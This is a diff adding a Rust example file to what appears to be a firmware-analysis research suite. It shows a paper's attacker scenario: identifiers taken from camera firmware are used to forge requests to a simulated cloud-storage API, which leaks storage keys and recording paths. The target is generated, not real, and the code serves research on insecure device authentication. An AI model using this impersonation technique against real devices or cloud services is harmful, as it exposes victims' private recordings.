@@ -1,0 +1,53 @@
+//! Impersonate a device from its firmware alone: the attacker story of
+//! the paper's threat model (§III-B), played out against the RUISION
+//! camera's cloud-storage interfaces (Table III, device 20).
+//!
+//! The attacker holds the firmware (purchased device, downloaded image),
+//! extracts the identifiers FIRMRES says the messages need, and walks the
+//! storage API: status → auth (leaks the storage keys) → file list (leaks
+//! recording paths).
+//!
+//! ```text
+//! cargo run --release --example forge_and_probe
+//! ```
+
+use firmres::{extract_endpoint, fill_message, probe_cloud};
+use firmres_suite::prelude::*;
+
+fn main() {
+    let device = generate_device(20, 7);
+    println!("target: {} {} cloud storage\n", device.spec.vendor, device.spec.model);
+
+    let analysis = analyze_firmware(&device.firmware, None, &AnalysisConfig::default());
+    // The three storage interfaces of Table III.
+    let storage: Vec<&MessageRecord> = analysis
+        .identified()
+        .filter(|r| {
+            extract_endpoint(&r.message)
+                .is_some_and(|e| e.starts_with("/store-server/"))
+        })
+        .collect();
+    assert_eq!(storage.len(), 3, "status, auth, files");
+
+    for record in &storage {
+        let endpoint = extract_endpoint(&record.message).unwrap();
+        println!("→ {endpoint}");
+        println!("   reconstructed: {}", record.message);
+        let filled = fill_message(&record.message, &device.firmware);
+        println!(
+            "   forged params: {:?}",
+            filled.params.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>()
+        );
+        let outcome = probe_cloud(&device.cloud, &filled);
+        println!("   cloud: {}", outcome.status);
+        for (k, v) in &outcome.leaked {
+            println!("   LEAKED {k}: {v}");
+        }
+        println!();
+    }
+    println!(
+        "all three interfaces accepted requests authenticated by nothing but the\n\
+         deviceId — the paper's identifier-only class. A real attacker needs only\n\
+         a leaked or enumerated device id to read the victim's recordings."
+    );
+}
